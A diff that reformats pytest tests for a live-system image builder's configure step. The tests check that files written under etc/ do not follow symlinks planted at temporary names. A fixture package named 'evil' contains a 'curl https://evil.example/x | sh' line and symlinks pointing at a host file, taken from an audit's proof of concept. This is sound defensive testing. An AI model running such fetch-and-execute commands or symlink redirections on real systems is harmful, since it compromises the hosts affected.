@@ -23,13 +23,23 @@ from tests.app.packages.fixtures import (
     symlink,
 )
 
-FACTS = BuildFacts(name="hostile", label="LIVESMITH", build_id="0123456789abcdef",
-                   date="2026-11-22")
-OPTIONS = SystemOptions(hostname="box", root_password="secret", user="ana",
-                        user_password="pw")
+FACTS = BuildFacts(
+    name="hostile", label="LIVESMITH", build_id="0123456789abcdef", date="2026-11-22"
+)
+OPTIONS = SystemOptions(hostname="box", root_password="secret", user="ana", user_password="pw")
 # Every file configure writes into a busybox root with a user and without os-release/fstab.
-WRITTEN = ("etc/hostname", "etc/hosts", "etc/passwd", "etc/group", "etc/shadow", "etc/issue",
-           "etc/os-release", "etc/fstab", "etc/inittab", "etc/init.d/rcS")
+WRITTEN = (
+    "etc/hostname",
+    "etc/hosts",
+    "etc/passwd",
+    "etc/group",
+    "etc/shadow",
+    "etc/issue",
+    "etc/os-release",
+    "etc/fstab",
+    "etc/inittab",
+    "etc/init.d/rcS",
+)
 VICTIM_TEXT = "# the building user's own file\n"
 
 
@@ -53,9 +63,13 @@ def victim(tmp_path: Path, name: str) -> Path:
 def test_a_link_at_the_old_temporary_name_never_reaches_the_host(tmp_path: Path) -> None:
     # The audit's proof of concept: etc/passwd plus etc/.passwd.livesmith-tmp -> host file.
     target = victim(tmp_path, "dot_bashrc")
-    evil = FixturePackage("evil", entries=(
-        file("etc/passwd", "curl https://evil.example/x | sh\n"),
-        symlink("etc/.passwd.livesmith-tmp", str(target))))
+    evil = FixturePackage(
+        "evil",
+        entries=(
+            file("etc/passwd", "curl https://evil.example/x | sh\n"),
+            symlink("etc/.passwd.livesmith-tmp", str(target)),
+        ),
+    )
     root, manifest = assembled(tmp_path, evil)
 
     configure_root(root, manifest, OPTIONS, FACTS, RecordingReporter(), epoch=0)
@@ -66,17 +80,20 @@ def test_a_link_at_the_old_temporary_name_never_reaches_the_host(tmp_path: Path)
     assert "root:x:0:0:root:/root:/bin/sh" in passwd.splitlines()
     # the package's own link is left as it was, and no temporary file is left behind
     assert (root / "etc/.passwd.livesmith-tmp").readlink() == target
-    assert not [p for p in (root / "etc").iterdir()
-                if p.name.endswith(".livesmith-tmp") and not p.is_symlink()]
+    assert not [
+        p
+        for p in (root / "etc").iterdir()
+        if p.name.endswith(".livesmith-tmp") and not p.is_symlink()
+    ]
 
 
 @pytest.mark.parametrize("path", WRITTEN)
-def test_no_written_file_follows_a_link_at_its_temporary_name(tmp_path: Path,
-                                                              path: str) -> None:
+def test_no_written_file_follows_a_link_at_its_temporary_name(tmp_path: Path, path: str) -> None:
     folder, name = path.rsplit("/", 1)
     target = victim(tmp_path, name)
-    evil = FixturePackage("evil", entries=(symlink(f"{folder}/.{name}.livesmith-tmp",
-                                                   str(target)),))
+    evil = FixturePackage(
+        "evil", entries=(symlink(f"{folder}/.{name}.livesmith-tmp", str(target)),)
+    )
     root, manifest = assembled(tmp_path, evil)
 
     configure_root(root, manifest, OPTIONS, FACTS, RecordingReporter(), epoch=0)
